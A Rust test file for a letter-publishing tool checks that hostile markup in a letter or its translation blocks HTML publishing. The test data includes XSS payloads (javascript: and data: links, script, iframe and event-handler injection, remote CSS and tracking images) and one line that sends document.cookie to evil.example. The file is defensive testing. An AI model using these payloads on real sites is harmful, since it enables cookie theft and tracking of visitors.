//! A letter's text (and a volunteer's translation) cannot put a script or
//! another site's resources into the published page; web fonts and
//! languages cannot collide in it.

use crate::common::{Run, Scratch};

/// 2025-02-17 14:45:00 UTC.
const EPOCH: &str = "1739803500";

fn publish(s: &Scratch) -> Run {
    let args = ["publish", "site", "--date", "2025-02-13"];
    s.run_with(&args, &[("SOURCE_DATE_EPOCH", EPOCH)])
}

/// The fixture letter with `markup` appended to `file` of its letter folder.
fn with_text(fixture: &str, file: &str, markup: &str) -> Scratch {
    let s = if fixture == "gec" { Scratch::new() } else { Scratch::with(fixture) };
    let path = format!("letter/{file}");
    let mut text = s.read(&path);
    text.push_str(markup);
    s.write(&path, &text);
    s
}

/// The line of `file` that holds `needle`, 1-based.
fn line_of(s: &Scratch, file: &str, needle: &str) -> usize {
    s.read(&format!("letter/{file}")).lines().position(|l| l.contains(needle)).unwrap() + 1
}

#[test]
fn a_letter_cannot_publish_scripts_or_foreign_resources() {
    let hostile = [
        ("#link(\"javascript:alert(1)\")[click]", "javascript:alert(1)"),
        ("#link(\"JaVaScRiPt:alert(1)\")[click]", "JaVaScRiPt:alert(1)"),
        ("#link(\"data:text/html,<script>alert(1)</script>\")[x]", "data:text/html"),
        ("#html.elem(\"script\")[alert(1)]", "`<script>`"),
        (
            "#html.elem(\"img\", attrs: (src: \"https://tracker.example/x.gif\", alt: \"\"))",
            "tracker.example",
        ),
        (
            "#html.elem(\"img\", attrs: (src: \"//tracker.example/x.gif\", alt: \"\"))",
            "tracker.example",
        ),
        (
            "#html.elem(\"img\", attrs: (src: \"x.png\", alt: \"\", srcset: \"x.png 1x, https://tracker.example/y.png 2x\"))",
            "tracker.example",
        ),
        (
            "#html.elem(\"link\", attrs: (rel: \"stylesheet\", href: \"https://cdn.example/s.css\"))",
            "cdn.example",
        ),
        ("#html.elem(\"iframe\", attrs: (src: \"https://evil.example/\"))", "`<iframe>`"),
        ("#html.elem(\"object\", attrs: (data: \"https://evil.example/x.swf\"))", "`<object>`"),
        ("#html.elem(\"span\", attrs: (onmouseover: \"alert(1)\"))[x]", "`onmouseover`"),
        (
            "#html.elem(\"div\", attrs: (style: \"background:url(https://tracker.example/bg.png)\"))[x]",
            "tracker.example",
        ),
        (
            "#html.elem(\"style\", \"p{background:\\\\75 rl(https://tracker.example/bg.png)}\")",
            "tracker.example",
        ),
        (
            "#html.elem(\"style\", \"@import 'https://cdn.example/x.css';\")",
            "imports another stylesheet",
        ),
        (
            "#html.elem(\"meta\", attrs: (http-equiv: \"refresh\", content: \"0;url=https://evil.example\"))",
            "`http-equiv`",
        ),
    ];
    for (markup, said) in hostile {
        let marker = format!("// case {said}");
        let s = with_text(
            "gec",
            "main.typ",
            &format!("\n\n{marker}\n#context if target() == \"html\" {{ [{markup}] }}\n"),
        );
        let line = line_of(&s, "main.typ", &marker) + 1;
        let run = publish(&s);
        assert_eq!(run.code, 1, "{markup} was published:\n{}", run.stderr);
        let run = run.refused(1, said);
        // The file and line of the letter that made it, and nothing written.
        assert!(
            run.stderr.contains(&format!("main.typ:{line}:")),
            "{markup}: no main.typ:{line}:\n{}",
            run.stderr
        );
        assert!(run.stderr.contains("nothing was written"), "{}", run.stderr);
        assert!(!s.path("site").exists(), "{markup}: a site was written");
        // The PDF, which runs nothing, still builds.
        s.run(&["build", "--date", "2025-02-13", "-o", "letter.pdf"]).ok();
    }
}

#[test]
fn a_volunteers_translation_is_checked_as_the_original_is() {
    let marker = "// from a volunteer";
    let markup = format!(
        "\n{marker}\n#link(\"javascript:fetch('https://evil.example/'+document.cookie)\")[Mehr]\n"
    );
    let s = with_text("kit", "main.en.typ", &markup);
    let line = line_of(&s, "main.en.typ", marker) + 1;
    let run = publish(&s).refused(1, "javascript:");
    assert!(run.stderr.contains(&format!("main.en.typ:{line}:")), "{}", run.stderr);
    assert!(run.stderr.contains("en/index.html"), "the page is named:\n{}", run.stderr);
    assert!(!s.path("site").exists());
}

#[test]
fn outbound_links_mail_and_the_sites_own_files_stay_allowed() {
    let s = with_text(
        "gec",
        "main.typ",
        "\n\nWrite to #link(\"mailto:letters@example.org\")[us] or see \
         #link(\"http://example.org/a?b=c#d\")[this], #link(\"preview.png\")[the preview].\n",
    );
    publish(&s).ok();
    let page = s.read("site/index.html");
    assert!(page.contains("href=\"mailto:letters@example.org\""));
    assert!(page.contains("href=\"http://example.org/a?b=c#d\""));
    // The logo Typst embeds is the one data: address a page keeps.
    let kit = Scratch::with("kit");
    publish(&kit).ok();
    assert!(kit.read("site/index.html").contains("src=\"data:image/svg+xml;base64,"));
}

#[test]
fn web_fonts_of_one_name_get_files_of_their_own() {
    let s = Scratch::with("kit");
    let fonts = s.path("fonts");
    // A project's own copy of a bundled font, of another size than the
    // bundled one (so it is not skipped as the same file), and two names
    // that become one file name.
    let mut noto = std::fs::read(s.path("fonts/NotoSerif-Regular.ttf")).unwrap();
    noto.extend_from_slice(&[0; 4]);
    std::fs::write(fonts.join("NotoSans-Regular.ttf"), &noto).unwrap();
    std::fs::copy(fonts.join("NotoSerif-Bold.ttf"), fonts.join("My Font.ttf")).unwrap();
    std::fs::copy(fonts.join("NotoSerif-Bold.ttf"), fonts.join("My-Font.ttf")).unwrap();
    publish(&s).ok();
    let page = s.read("site/index.html");
    let mut hrefs: Vec<String> = page
        .split("src:url(")
        .skip(1)
        .map(|rest| rest.split(')').next().unwrap().trim_matches(['"', '\'']).to_owned())
        .collect();
    let count = hrefs.len();
    for href in &hrefs {
        assert!(s.path("site").join(href).is_file(), "{href} is not in the site");
    }
    hrefs.sort();
    hrefs.dedup();
    assert_eq!(hrefs.len(), count, "two faces share a file: {hrefs:?}");
    // The project's copy draws what the project's Noto Serif before it
    // already draws: the page needs nothing of it, and the site leaves it
    // out.
    assert!(!hrefs.iter().any(|h| h.starts_with("fonts/NotoSans-Regular-2")), "{hrefs:?}");
    assert!(hrefs.iter().any(|h| h == "fonts/My-Font.woff2"), "{hrefs:?}");

    // An export of the same project keeps both copies too.
    s.run(&["export-typst", "exp", "--date", "2025-02-13"]).ok();
    let exported = std::fs::read(s.path("exp/fonts/NotoSans-Regular-2.ttf")).unwrap();
    assert!(
        exported == noto
            || std::fs::read(s.path("exp/fonts/NotoSans-Regular.ttf")).unwrap() == noto
    );
}

#[test]
fn one_language_twice_is_refused_naming_both_files() {
    // The original is English, and so is main.en.typ.
    let s = Scratch::new();
    let en = std::fs::read_to_string(s.path("letter/main.typ")).unwrap();
    s.write("letter/main.en.typ", &en);
    publish(&s).refused(1, "main.en.typ").stderr_has("main.typ");
    assert!(!s.path("site").exists());

    // `en-GB` and `en-gb`: one language in two files.
    let kit = Scratch::with("kit");
    let en = kit.read("letter/main.en.typ");
    std::fs::remove_file(kit.path("letter/main.en.typ")).unwrap();
    kit.write("letter/main.en-GB.typ", &en);
    kit.write("letter/main.en-gb.typ", &en);
    let run = publish(&kit).refused(2, "one language in two files");
    assert!(run.stderr.contains("main.en-GB.typ") && run.stderr.contains("main.en-gb.typ"));
    kit.run(&["build", "--all-languages", "-o", "{lang}.pdf", "--date", "2025-02-13"])
        .refused(2, "one language in two files");
}

#[test]
fn what_the_guard_lets_through_fetches_nothing_from_another_host_in_chromium() {
    // Everything a letter may still do that names another host: links (in
    // the text and in a drawing), and words about other hosts.
    let markup = "\n\nSee #link(\"https://tracker.example/a\")[this] and \
         #link(\"//tracker.example/b\")[that], or write to \
         #link(\"mailto:x@tracker.example\")[us].\n\
         #context if target() == \"html\" { html.frame(link(\"https://tracker.example/c\")[drawn]) }\n\
         #context if target() == \"html\" { html.elem(\"link\", attrs: (rel: \"alternate\", \
         hreflang: \"fr\", href: \"https://tracker.example/fr/\")) }\n";
    let s = with_text("kit", "main.typ", markup);
    publish(&s).ok();
    let page = s.path("site/index.html").canonicalize().unwrap();
    let shots = std::path::Path::new(env!("CARGO_TARGET_TMPDIR")).join("hostile-screenshots");
    let Some(report) = crate::publish::in_browser(&page, &shots) else { return };
    let root = format!("file://{}/", page.parent().unwrap().display());
    for request in report["requests"].as_array().unwrap() {
        let url = request.as_str().unwrap();
        assert!(
            url.starts_with(&root) || url.starts_with("data:image/"),
            "a request beyond the site: {url}"
        );
    }
    assert_eq!(report["blocked"], serde_json::json!([]));
    assert_eq!(report["scripts"], 0);
}
